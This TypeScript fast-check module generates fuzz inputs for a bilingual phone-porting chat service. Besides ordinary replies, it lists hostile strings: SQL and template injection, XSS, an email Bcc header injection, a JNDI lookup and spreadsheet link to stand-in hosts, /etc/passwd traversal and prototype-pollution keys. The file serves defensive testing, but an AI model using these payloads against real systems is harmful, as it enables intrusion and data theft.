import fc from "fast-check";

/** What people, their keyboards and their enemies type, and answers that would be right elsewhere. */
const english = [
  "agree",
  "none, ready",
  "212-555-0100, 212-555-0101",
  "(212) 555-0150",
  "2125550100-2125550199",
  "212-555-0100 to 0149",
  "yes, 1, 8841-22-7730",
  "business, Acme Plumbing LLC",
  "Dana Reyes, dana@acme.com, yes, yes",
  "120 W 45th St, Apt 4B, New York, NY 10036, same",
  "edit the zip",
  "the zip is 10013",
  "status of PR-7K3M-9Q2X",
  "who has 0142?",
  "assign 212-555-0142 to @dana",
  "figures",
  "export numbers",
  "show all ports",
  "cancel",
  "back",
  "undo",
  "help",
  "submit",
  "yes",
  "no",
  "sign",
  "my PIN is 4821",
  "ask dana@acme.com for the bill",
  "remind me tomorrow",
  "watch PR-7K3M-9Q2X",
];

const spanish = [
  "acepto todo",
  "ninguno, listo",
  "212-555-0100 al 0102",
  "sí, el primero, 8841-22-7730",
  "empresa, Plomería Ñuñoa S.A.",
  "residencial, José Pérez",
  "Dana Reyes, dana@example.com, sí, sí",
  "120 W 45th St, Apt 4B, New York, NY 10035, la misma",
  "el código postal es 10036",
  "atrás",
  "conservar",
  "cambiar la fecha al 12 de diciembre",
  "¿cuánto tarda?",
  "¿qué es un BTN?",
  "estado de PR-7K3M-9Q2X",
  "mis solicitudes abiertas",
  "¿quién tiene el 0100?",
  "asignar 0100 a anna@example.com",
  "resumen diario a las 9",
  "horas de silencio de 10 pm a 7 am",
  "silenciar hasta mañana",
  "informar a anna@example.com",
  "números temporales",
  "cancelar la solicitud",
  "mi PIN es 4821",
  "enviar",
  "sí, presentarla",
  "firmar",
  "ayuda",
  "español",
  "english",
];

const typed = [...english, ...spanish];

const hostile = [
  `${"please, ".repeat(60)}x`,
  `cancel ${"56".repeat(150)}s`,
  `it is ${"all same ".repeat(60)}r`,
  `agree to all but1and${"1 1and".repeat(60)}&all but1`,
  `1${"\t".repeat(900)}011${"\t".repeat(900)}\t101${"\t".repeat(900)}`,
  "a@b".repeat(1500),
  "— ".repeat(1500),
  "\u202eGnivom\u202c raboná",
  "Аcme Рlumbing",
  "dana@acme.com\r\nBcc: eve@evil.example",
  "[click](javascript:alert(1)) <at>everyone</at> @channel <!everyone>",
  "'; drop table requests; --",
  '{"$ne":null}',
  "{{constructor.constructor('return process')()}}",
  "<script>alert(1)</script>",
  "<!channel> <@U0PORT|x> &amp;lt;",
  "../../../../etc/passwd",
  "\u0000\u0001\u0002",
  "\u202e\u2066txt.exe\u2069",
  "\ud800",
  "\ufeff\u200b\u200d",
  "%s%n%x%d",
  "$\u007bjndi:ldap://x.example/a}",
  '=HYPERLINK("http://x.example")',
  "__proto__",
  "constructor",
  "toString",
  "9".repeat(400),
  "1-".repeat(300),
  "+1".repeat(300),
  "212-555-0100-0199-".repeat(40),
  "a, ".repeat(500),
  "(((((((((((((((((((((((((((((((",
  "\n".repeat(500),
  "NaN",
  "-0",
  "1e309",
  "٢١٢٥٥٥٠١٠٠",
  "２１２－５５５－０１００",
  "𝟐𝟏𝟐 𝟓𝟓𝟓 𝟎𝟏𝟎𝟎",
  "🏳️‍🌈".repeat(60),
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L".repeat(20),
];

/** One right answer, spoilt: cut, doubled, with something foreign in it. */
const spoilt = fc
  .record({
    text: fc.constantFrom(...typed),
    at: fc.nat(60),
    put: fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: "grapheme", maxLength: 12 })),
    cut: fc.nat(12),
  })
  .map(({ text, at, put, cut }) => text.slice(0, at) + put + text.slice(at + cut));

/** Any text that may arrive at a door. */
export const strangeText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...typed) },
  { weight: 3, arbitrary: fc.constantFrom(...hostile) },
  { weight: 4, arbitrary: spoilt },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 300 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 200 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme-ascii", minLength: 2000, maxLength: 9000 }) },
);

/** Any bytes: nothing, noise, and the beginnings of files that break off. */
export const strangeBytes: fc.Arbitrary<Buffer> = fc.oneof(
  fc.uint8Array({ maxLength: 3000 }).map((bytes) => Buffer.from(bytes)),
  strangeText.map((text) => Buffer.from(text)),
  fc
    .record({
      head: fc.constantFrom(
        "%PDF-1.7\n",
        "\u0089PNG\r\n\u001a\n\0\0\0\rIHDR",
        "\u00ff\u00d8\u00ff\u00e0\0\u0010JFIF",
        "PK\u0003\u0004",
        "RIFF\u0010\0\0\0WEBPVP8X",
        "II*\0\u0008\0\0\0",
        "GIF89a",
        "From: a@b.example\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b",
        'number,name\n212-555-0100,"',
        "\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1",
      ),
      rest: fc.uint8Array({ maxLength: 2000 }),
    })
    .map(({ head, rest }) => Buffer.concat([Buffer.from(head, "latin1"), rest])),
);
